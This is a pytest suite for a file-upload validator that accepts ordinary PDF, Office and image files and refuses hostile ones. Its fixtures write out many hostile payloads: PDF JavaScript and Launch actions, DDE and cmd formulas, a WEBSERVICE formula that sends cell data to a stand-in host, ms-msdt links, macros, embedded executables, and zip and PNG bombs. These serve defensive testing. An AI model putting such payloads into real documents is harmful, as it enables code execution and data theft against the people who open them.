"""Uploaded files: honest ones are accepted, hostile ones are refused with the reason."""

import io
import random

import pikepdf
import pytest
from django.conf import settings
from PIL import ExifTags, Image

from iomlaos.media.filetypes import CheckedFile, check_file
from iomlaos.media.filetypes.types import OFFICE, InvalidFile
from tests.helpers.uploads import (
    HONEST,
    S,
    field,
    honest,
    linked,
    moving_png,
    office,
    packed,
    parts_of,
    pdf,
    pdf_with,
    photograph,
    picture,
    png_chunk,
    png_of_size,
    replaced,
    sheet,
    typed,
    word,
)


def check(content: bytes, name: str) -> CheckedFile:
    return check_file(io.BytesIO(content), name)


def reason(content: bytes, name: str) -> str:
    with pytest.raises(InvalidFile) as refused:
        check(content, name)
    assert refused.value.messages[0]
    return refused.value.code


# --- Honest files -----------------------------------------------------------------------------


@pytest.mark.parametrize("program", sorted({path.parent.name for path in HONEST}))
def test_the_files_of_an_ordinary_program_are_accepted(program):
    for path in (path for path in HONEST if path.parent.name == program):
        checked = check(path.read_bytes(), path.name)
        assert path.suffix in checked.file_type.endings, path.name
        assert bool(checked.pages) == (path.suffix == ".pdf"), path.name
        is_changed = program == "python-docx" and "on a" in path.name
        assert (checked.content != path.read_bytes()) == is_changed, path.name


def test_a_letter_is_stored_without_the_link_to_its_template():
    name = "letter on a shared template.docx"
    sent = parts_of(honest(f"python-docx/{name}"))
    stored = parts_of(check(honest(f"python-docx/{name}"), name).content)
    assert [part for part in sent if b"attachedTemplate" in sent[part]] == [
        "word/settings.xml",
        "word/_rels/settings.xml.rels",
    ]
    assert not [part for part in stored if b"attachedTemplate" in stored[part]]
    # Word opens no file whose parts name a link that is not there.
    assert b"r:id=" in sent["word/settings.xml"]
    assert b"r:id=" not in stored["word/settings.xml"]
    assert list(stored) == list(sent)
    changed = {part for part in sent if sent[part] != stored[part]}
    assert changed == {"word/settings.xml", "word/_rels/settings.xml.rels"}


def test_a_template_that_cannot_be_removed_is_refused():
    content = honest("python-docx/letter on a template.docx")
    assert (
        reason(replaced(content, "word/_rels/settings.xml.rels", "Letter.dotm", "a>b.dotm"), "a.docx")
        == "fetches"
    )


HARMLESS = {
    "PNG": (picture("PNG"), "map.png"),
    "an ending in capitals": (picture("JPEG"), "MAP.JPG"),
    "many scans": (picture("JPEG", progressive=True), "map.jpeg"),
    "a link": (linked("docx", "hyperlink", "https://www.iom.int/?a=1&amp;b=2"), "a.docx"),
    "a lost picture": (linked("pptx", "image", "NULL"), "a.pptx"),
    "an embedded workbook": (
        linked("docx", "package", "embeddings/a.xlsx", "Internal", **{"word/embeddings/a.xlsx": office("xlsx")}), "a.docx",
    ),
    "SVG and empty XML": (office("docx", **{"word/media/a.svg": "<!DOCTYPE svg><svg/>", "customXml/item1.xml": ""}), "a.docx"),
    "words about DDE": (word("<w:p><w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r></w:p>"), "a.docx"),
    "a field in a field": (word(f"<w:p>{field('IF', field(' MERGEFIELD a '), ' = 1')}</w:p>"), "a.docx"),
    "a bar in the name of a sheet": (sheet("'A|b'!A1&amp;'c d'!B2"), "a.xlsx"),
    "a bar in words": (sheet("IF(A1=&quot;'&quot;,&quot;x|y&quot;,2)"), "a.xlsx"),
    "a page to open at": (pdf_with("/OpenAction", "[ 0 /XYZ 0 842 0 ]"), "a.pdf"),
    "space behind": (pdf() + b"\r\n" + bytes(4096), "a.pdf"),
    "any name": (pdf(), "ແບບຟອມ (2) – «Laos» №1.v2.PDF"),
}  # fmt: skip


def test_what_is_harmless_is_accepted():
    for what, (content, name) in HARMLESS.items():
        assert check(content, name).content, what


# --- Hostile files ----------------------------------------------------------------------------

PAGE = b"<!doctype html><script>alert(1)</script>"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
DDE_LINK = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
REFRESH = f'<connections {S}><connection id="1" refreshOnLoad="1"/></connections>'
EXTERNAL_LINK = OFFICE + "spreadsheetml.externalLink+xml"
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'


def attach(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def annotated(annotation: str) -> bytes:
    return pdf(
        1,
        lambda document: document.pages[0].__setitem__(
            "/Annots", [pikepdf.Object.parse(annotation.encode())]
        ),
    )


HOSTILE = {
    "a page": ("a.pdf", PAGE, "type"),
    "a program": ("a.docx", b"MZ\x90\0" + bytes(512), "type"),
    "WebP, not for download": ("a.webp", picture("WEBP"), "type"),
    "an old Word file": ("a.doc", OLD_OFFICE, "old_office"),
    "a zip file": ("a.docx", packed({"a.txt": "a"}), "no_document"),
    "an empty file": ("a.pdf", b"", "empty"),
    "a wrong ending": ("a.docx", pdf(), "ending"),
    "a macro ending": ("a.docm", office("docx"), "ending"),
    "a very long name": ("a" * 200 + ".pdf", pdf(), "name"),
    # PDF
    "PDF: script on opening": ("a.pdf", pdf_with("/OpenAction", "<< /S /JavaScript /JS (x) >>"), "active"),
    "PDF: script by an odd name": ("a.pdf", pdf_with("/OpenAction", "<< /S /J#61vaScript >>"), "active"),
    "PDF: named script": ("a.pdf", pdf_with("/Names", "<< /JavaScript << /Names [ (a) << /JS (x) >> ] >> >>"), "active"),
    "PDF: script in packed objects": (
        "a.pdf",
        pdf_with("/OpenAction", "<< /S /JavaScript /JS (x) >>", object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active",
    ),
    "PDF: script behind an owner's password": (
        "a.pdf", pdf_with("/OpenAction", "<< /S /JavaScript >>", encryption=pikepdf.Encryption(owner="x", user="")), "active",
    ),
    "PDF: starts a program": ("a.pdf", pdf_with("/OpenAction", "<< /S /Launch /F (calc.exe) >>"), "active"),
    "PDF: opens another file": ("a.pdf", pdf_with("/OpenAction", r"<< /S /GoToR /F (\\\\203.0.113.9\\a) >>"), "active"),
    "PDF: sends its form": ("a.pdf", pdf_with("/OpenAction", "<< /S /SubmitForm /F (http://a.example/) >>"), "active"),
    "PDF: follows a link": ("a.pdf", pdf_with("/OpenAction", "<< /S /URI /URI (https://a.example/) >>"), "active"),
    "PDF: follows a link later": (
        "a.pdf", pdf_with("/OpenAction", "<< /S /GoTo /Next [ << /S /URI /URI (https://a.example/) >> ] >>"), "active",
    ),
    "PDF: a link that is a script": ("a.pdf", annotated("<< /A << /S /URI /URI (JavaScript:alert) >> >>"), "active"),
    "PDF: a form that lives": ("a.pdf", pdf_with("/AcroForm", "<< /XFA [] >>"), "active"),
    "PDF: a film": ("a.pdf", annotated("<< /Subtype /RichMedia >>"), "active"),
    "PDF: content from a file": (
        "a.pdf", pdf(1, lambda document: document.Root.__setitem__("/A", document.make_stream(b"", F=b"a"))), "active",
    ),
    "PDF: an attachment": ("a.pdf", pdf(1, attach), "attachment"),
    "PDF: an attachment on a page": ("a.pdf", annotated("<< /Subtype /FileAttachment >>"), "attachment"),
    "PDF: a password to open": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="x", user="y")), "password"),
    "PDF: cut off": ("a.pdf", pdf(9)[:-40], "damaged"),
    "PDF: no page": ("a.pdf", pdf(0), "damaged"),
    "PDF: much behind it": ("a.pdf", pdf() + b"MZ" * 4096, "damaged"),
    # Office
    "macros": ("a.docx", typed("docx", "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "macros"),
    "macros by another name": ("a.docx", linked("docx", "vbaProject", "a.bin", "Internal"), "macros"),
    "a macro document": (
        "a.docx", replaced(office("docx"), "[Content_Types].xml", OFFICE + "wordprocessingml.document.main+xml",
                           "application/vnd.ms-word.document.macroEnabled.main+xml"), "macros",
    ),
    "a macro sheet": ("a.xlsx", typed("xlsx", "xl/a.xml", "application/vnd.ms-excel.macrosheet+xml"), "macros"),
    "a control": ("a.docx", linked("docx", "control", "activeX/activeX1.xml", "Internal"), "macros"),
    "a click that starts a program": (
        "a.pptx", typed("pptx", "ppt/slides/slide9.xml", OFFICE + "presentationml.slide+xml",
                        '<a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/>'), "macros",
    ),
    "an object": ("a.docx", linked("docx", "oleObject", "embeddings/a.bin", "Internal"), "object"),
    "an embedded page": ("a.docx", linked("docx", "aFChunk", "a.mht", "Internal"), "object"),
    "an embedded program": (
        "a.docx", linked("docx", "package", "embeddings/a.exe", "Internal", **{"word/embeddings/a.exe": b"MZ"}), "object",
    ),
    "an embedded program by an odd name": (
        "a.docx", linked("docx", "package", "embeddings/%61.exe", "Internal", **{"word/embeddings/a.exe": b"MZ"}), "object",
    ),
    "macros in the workbook of a chart": (
        "a.pptx",
        packed(parts_of(office("pptx")) | {
            part: linked("xlsx", "vbaProject", "a.bin", "Internal")
            for part in parts_of(office("pptx")) if part.endswith(".xlsx")
        }),
        "macros",
    ),
    "a picture from elsewhere": ("a.pptx", linked("pptx", "image", "\\\\203.0.113.9\\a.png"), "fetches"),
    "a link that is a script": ("a.docx", linked("docx", "hyperlink", "javascript:alert(1)"), "fetches"),
    "a link that starts a tool": ("a.docx", linked("docx", "hyperlink", "ms-msdt:/id"), "fetches"),
    "a link without its mode": ("a.docx", linked("docx", "image", "http://a.example/a.png", "Internal"), "fetches"),
    "DDE": ("a.docx", word(f"<w:p>{field('DDE', 'AUTO c:/cmd.exe')}</w:p>"), "fetches"),
    "DDE made by another field": ("a.docx", word(f"<w:p>{field(field('QUOTE 68 68 69'), ' cmd')}</w:p>"), "fetches"),
    "DDE in part made by another field": ("a.docx", word(f"<w:p>{field('DD', field('QUOTE 69'), ' cmd')}</w:p>"), "fetches"),
    "DDE in short": ("a.docx", word('<w:p><w:fldSimple w:instr=" &#68;DE cmd "/></w:p>'), "fetches"),
    "DDE in UTF-16": (
        "a.docx",
        office("docx", **{"word/document.xml": parts_of(word(field("DDE cmd")))["word/document.xml"].decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
        "fetches",
    ),
    "a formula that starts a program": ("a.xlsx", sheet("1+cmd|'/c calc'!A0"), "fetches"),
    "a formula that fetches": ("a.xlsx", sheet('_xlfn.WEB<!-- -->SERVICE("http://a.example/"&amp;A1)'), "fetches"),
    "a link to a program": ("a.xlsx", typed("xlsx", "xl/a.xml", EXTERNAL_LINK, DDE_LINK), "fetches"),
    "data that loads itself": (
        "a.xlsx", typed("xlsx", "xl/a.xml", OFFICE + "spreadsheetml.connections+xml", REFRESH), "fetches",
    ),
    "a document type": ("a.docx", office("docx", **{"word/styles.xml": DOCTYPE}), "damaged"),
    "a document type in UTF-16": ("a.docx", office("docx", **{"word/styles.xml": DOCTYPE.encode("utf-16")}), "damaged"),
    "a part that is not XML": ("a.docx", office("docx", **{"word/styles.xml": "nothing"}), "damaged"),
    "two parts of one name": ("a.docx", office("docx", **{"WORD/Document.xml": "<a/>"}), "damaged"),
    "something behind it": ("a.docx", office("docx") + PAGE, "damaged"),
    "a bomb": ("a.docx", office("docx", **{"word/a.xml": bytes(99 * 2**20)}), "unpacked"),
    "very many parts": ("a.docx", office("docx", **dict.fromkeys(map(str, range(10_001)), "")), "unpacked"),
    # Pictures
    "JPEG: cut off": ("a.jpg", picture("JPEG")[:-600], "damaged"),
    "JPEG: many scans": ("a.jpg", picture("JPEG") + b"\xff\xda" * 101, "damaged"),
    "PNG: too few pixels": ("a.png", png_of_size(900, 900, bytes(99)), "damaged"),
    "PNG: a bomb": ("a.png", png_of_size(40_000, 40_000, bytes(9)), "pixels"),
    "PNG: animated": ("a.png", moving_png(), "animated"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "code"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused_with_the_reason(name, content, code):
    assert reason(content, name) == code


def test_a_broken_part_is_found():
    content = bytearray(honest("openpyxl/rows.xlsx"))
    content[content.index(b"PK\1\2") + 16] ^= 1
    assert reason(bytes(content), "a.xlsx") == "damaged"


def test_a_file_above_the_limit_is_refused_with_both_sizes(monkeypatch):
    monkeypatch.setattr(settings, "UPLOAD_LIMIT_BYTES", 500)
    with pytest.raises(InvalidFile) as refused:
        check(pdf(9), "a.pdf")
    assert refused.value.messages[0].endswith("The limit is 500\xa0bytes. Smaller pictures may help.")


def test_a_file_of_just_the_limit_is_accepted(monkeypatch):
    monkeypatch.setattr(settings, "UPLOAD_LIMIT_BYTES", len(pdf()))
    assert check(pdf(), "a.pdf").pages == 1


def test_the_pages_of_a_pdf_are_counted():
    assert check(pdf(7), "a.pdf").pages == 7


# --- Pictures without what a camera wrote -----------------------------------------------------


@pytest.mark.parametrize(("kind", "name", "turn"), [("JPEG", "a.jpg", 6), ("PNG", "a.png", 3)])
def test_a_photograph_keeps_its_look_and_loses_place_and_camera(kind, name, turn):
    sent = photograph(kind, turn)
    stored = check(sent, name).content
    with Image.open(io.BytesIO(sent)) as before, Image.open(io.BytesIO(stored)) as after:
        differences = [abs(a - b) for a, b in zip(before.tobytes(), after.tobytes(), strict=True)]
        assert max(differences) <= (3 if kind == "JPEG" else 0)
        assert dict(after.getexif()) == {ExifTags.Base.Orientation: turn}
    for trace in (b"Somebody", b"Telephone", b"GPS"):
        assert trace not in stored


@pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
def test_a_picture_keeps_its_colour_profile_and_its_size_in_print(kind, name):
    profile = random.Random(1).randbytes(3_000)
    stored = check(picture(kind, icc_profile=profile, dpi=(300, 300)), name).content
    with Image.open(io.BytesIO(stored)) as image:
        assert image.info["icc_profile"] == profile
        assert [round(side) for side in image.info["dpi"]] == [300, 300]


def test_nothing_but_the_picture_is_stored():
    text = png_chunk(b"tEXt", b"a\0" + PAGE)
    for content, name in (
        (picture("JPEG") + PAGE, "a.jpg"),
        (picture("JPEG", comment=PAGE), "a.jpg"),
        (picture("PNG") + PAGE, "a.png"),
        (picture("PNG")[:33] + text + picture("PNG")[33:], "a.png"),
    ):
        assert b"alert" not in check(content, name).content


def test_a_png_of_any_colours_keeps_its_pixels():
    for mode in ("1", "L", "P", "LA", "RGBA", "I;16"):
        content = io.BytesIO()
        Image.radial_gradient("L").convert("I" if mode == "I;16" else mode).convert(mode).save(content, "PNG")
        stored = check(content.getvalue(), "a.png").content
        with Image.open(content) as before, Image.open(io.BytesIO(stored)) as after:
            assert (before.mode, before.tobytes()) == (after.mode, after.tobytes()), mode
